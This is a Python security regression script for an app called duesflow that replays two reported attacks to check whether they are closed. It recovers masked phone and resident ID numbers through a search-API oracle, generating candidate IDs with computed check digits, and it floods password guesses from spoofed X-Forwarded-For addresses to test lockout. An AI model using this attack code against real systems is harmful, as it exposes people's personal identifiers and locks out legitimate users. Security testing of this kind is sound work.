"""Repeat two attacks of issue 14 against a running duesflow and say whether each is closed (exit 0) or open (1).

    python bench/attack.py --url http://127.0.0.1:8000 --password PW [--reviewer tiedong] [--member-id ID]
        [--phone-pattern 138****0001] [--phone-from 0] [--id-pattern 220302********1231]
        [--newest-birth YYYY-MM-DD] [--tries 200]
        [--victim central] [--victim-password PW] [--attackers 10] [--admin admin]

1. Search oracle (finding 1). As a reviewer who sees a member, read the member's masked phone and ID number
   (or take them from ``--phone-pattern`` / ``--id-pattern``: the API now gives reviewers ``null``), then ask
   ``GET /api/v1/members?q=<candidate>`` and ``?id_number=<candidate>`` for ``--tries`` candidates that fill the
   masked digits (for the ID: plausible birth dates, with the check digit computed). Open if any answer lists the
   member, or if the member JSON gives the reviewer a birth date (the masked middle of the ID). Give the true
   value's pattern and enough tries, and the old code answered within them.
2. Lockout (finding 4). From ``--attackers`` client addresses (``X-Forwarded-For``: run the server with
   ``DUESFLOW_TRUSTED_PROXIES=1``, or behind one proxy), five wrong passwords each for ``--victim``; then the
   victim's right password from a fresh address, on ``POST /api/v1/auth/token`` and on ``/login``. Open if the
   victim is refused; also checked: an attacker address itself is refused (429), and with ``--admin`` the admin
   API lists the victim's username as under attack.

The accounts must exist (``flask --app duesflow demo`` makes such ones); every login uses ``--password`` unless
``--victim-password`` is given. Attacker addresses come from 198.18.0.0/15 (benchmarking space), the fresh ones
from 198.19.255.0/24.
"""

from __future__ import annotations

import argparse
import datetime as dt
import itertools
import re
import sys
import uuid
from dataclasses import dataclass, field

import requests

TIMEOUT = 30.0
ID_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
ID_CHECK = "10X98765432"


@dataclass
class Finding:
    name: str
    closed: bool = True
    notes: list[str] = field(default_factory=list)

    def open_(self, note: str) -> None:
        self.closed = False
        self.notes.append("OPEN: " + note)

    def note(self, note: str) -> None:
        self.notes.append(note)


class Client:
    """HTTP against one server, each request from the client address given."""

    def __init__(self, url: str) -> None:
        self.url = url.rstrip("/")
        self.http = requests.Session()

    def token(self, username: str, password: str, address: str) -> requests.Response:
        return self.http.post(f"{self.url}/api/v1/auth/token", json={"username": username, "password": password},
                              headers={"X-Forwarded-For": address}, timeout=TIMEOUT)

    def get(self, path: str, token: str, **params: str) -> requests.Response:
        return self.http.get(f"{self.url}/api/v1{path}", params=params, headers={"Authorization": f"Bearer {token}"},
                             timeout=TIMEOUT)

    def web_login(self, username: str, password: str, address: str) -> requests.Response:
        browser = requests.Session()
        form = browser.get(f"{self.url}/login", headers={"X-Forwarded-For": address}, timeout=TIMEOUT)
        match = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', form.text)
        csrf = match.group(1) if match else ""
        return browser.post(f"{self.url}/login", data={"username": username, "password": password,
                                                       "csrf_token": csrf},
                            headers={"X-Forwarded-For": address}, allow_redirects=False, timeout=TIMEOUT)


def phone_candidates(pattern: str, tries: int, start: int = 0) -> list[str]:
    """Fillings of the ``*`` of a masked phone (``138****0001``), in order from ``start``."""
    hidden = pattern.count("*")
    fillings = (f"{n:0{hidden}d}" for n in range(start, 10 ** hidden))
    return [pattern.replace("*" * hidden, filling) for filling in itertools.islice(fillings, tries)]


def id_candidates(pattern: str, tries: int, newest: dt.date | None = None) -> list[str]:
    """Whole resident IDs for a masked one (``220302********1231``): plausible birth dates, newest adults first, the
    sequence digits taken from the unmasked tail, the check digit computed."""
    region, tail = pattern[:6], pattern[-4:]
    day = newest or dt.date.today() - dt.timedelta(days=18 * 365)
    found: list[str] = []
    while len(found) < tries and day.year > 1900:
        first17 = region + day.strftime("%Y%m%d") + tail[:3]
        check = ID_CHECK[sum(int(d) * w for d, w in zip(first17, ID_WEIGHTS, strict=True)) % 11]
        if check == tail[3]:
            found.append(first17 + check)
        day -= dt.timedelta(days=1)
    return found


def search_oracle(client: Client, args: argparse.Namespace) -> Finding:
    finding = Finding("search oracle (finding 1)")
    answer = client.token(args.reviewer, args.password, "198.19.255.1")
    if answer.status_code != 200:
        finding.open_(f"cannot log in as {args.reviewer}: {answer.status_code}")
        return finding
    token = answer.json()["token"]
    member = client.get(f"/members/{args.member_id}", token)
    if member.status_code != 200:
        finding.open_(f"the reviewer cannot see member {args.member_id}: {member.status_code}")
        return finding
    shown = member.json()
    finding.note(f"{args.reviewer} sees member {shown['name']}: phone {shown['phone']}, ID {shown['id_number']}, "
                 f"birth date {shown['birth_date']}")
    if shown.get("birth_date"):
        finding.open_("the birth date (the masked middle of the ID number) is shown to the reviewer")
    phone_pattern = shown.get("phone") or args.phone_pattern
    id_pattern = shown.get("id_number") or args.id_pattern
    asked = 0
    for label, candidates, params in (
        ("phone", phone_candidates(phone_pattern, args.tries, args.phone_from) if phone_pattern else [], ("q",)),
        ("ID number", id_candidates(id_pattern, args.tries, args.newest_birth) if id_pattern else [],
         ("q", "id_number")),
    ):
        for candidate, param in itertools.product(candidates, params):
            asked += 1
            found = client.get("/members", token, **{param: candidate})
            if found.status_code == 200 and any(item["id"] == args.member_id for item in found.json()["items"]):
                finding.open_(f"?{param}={candidate} finds the member: the whole {label} is learnt")
                break
    finding.note(f"{asked} searches asked")
    if asked == 0:
        finding.open_("nothing to ask: give --phone-pattern and --id-pattern")
    return finding


def lockout(client: Client, args: argparse.Namespace) -> Finding:
    finding = Finding("lockout (finding 4)")
    victim_password = args.victim_password or args.password
    attackers = [f"198.18.{n // 250}.{n % 250 + 1}" for n in range(args.attackers)]
    refused_attackers = 0
    for address in attackers:
        for _ in range(5):
            client.token(args.victim, f"wrong-{uuid.uuid4().hex[:8]}", address)
        refused_attackers += client.token(args.victim, victim_password, address).status_code == 429
    finding.note(f"{len(attackers) * 5} wrong passwords for {args.victim} from {len(attackers)} addresses")
    fresh = client.token(args.victim, victim_password, "198.19.255.77")
    finding.note(f"the victim from a fresh address, API: {fresh.status_code}")
    if fresh.status_code != 200:
        finding.open_(f"the victim's right password from a fresh address gets {fresh.status_code} on the API")
    page = client.web_login(args.victim, victim_password, "198.19.255.78")
    finding.note(f"the victim from a fresh address, /login: {page.status_code}")
    if page.status_code != 302:
        finding.open_(f"the victim's right password from a fresh address gets {page.status_code} on /login")
    finding.note(f"attacker addresses refused even with the right password: {refused_attackers} of {len(attackers)}")
    if refused_attackers != len(attackers):
        finding.open_("an address that failed five times was not refused: the throttle does not hold")
    if args.admin:
        token = client.token(args.admin, args.password, "198.19.255.2").json()["token"]
        listed = client.get("/security/login-attacks", token)
        rows = listed.json().get("items", []) if listed.status_code == 200 else []
        row = next((row for row in rows if row["username"] == args.victim.casefold()), None)
        finding.note(f"admin sees: {row}")
        if row is None or row["clients"] < len(attackers):
            finding.open_("the admin does not see the attack on the victim's username")
    return finding


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", required=True)
    parser.add_argument("--password", required=True, help="of --reviewer and --admin (and --victim by default)")
    parser.add_argument("--reviewer", default="tiedong")
    parser.add_argument("--member-id", type=int, default=1)
    parser.add_argument("--phone-pattern", help="the masked phone, when the API does not give it (138****0001)")
    parser.add_argument("--phone-from", type=int, default=0, help="first filling of the phone's masked digits")
    parser.add_argument("--id-pattern", help="the masked ID number, when the API does not give it")
    parser.add_argument("--newest-birth", type=dt.date.fromisoformat, help="newest birth date tried (ID search)")
    parser.add_argument("--tries", type=int, default=200, help="candidates per masked value")
    parser.add_argument("--victim", default="central")
    parser.add_argument("--victim-password")
    parser.add_argument("--attackers", type=int, default=10)
    parser.add_argument("--admin", help="an admin account: check that it sees the attack")
    args = parser.parse_args(argv)
    client = Client(args.url)
    findings = [search_oracle(client, args), lockout(client, args)]
    for finding in findings:
        print(f"{finding.name}: {'closed' if finding.closed else 'OPEN'}")
        for note in finding.notes:
            print(f"  {note}")
    return 0 if all(finding.closed for finding in findings) else 1


if __name__ == "__main__":
    sys.exit(main())
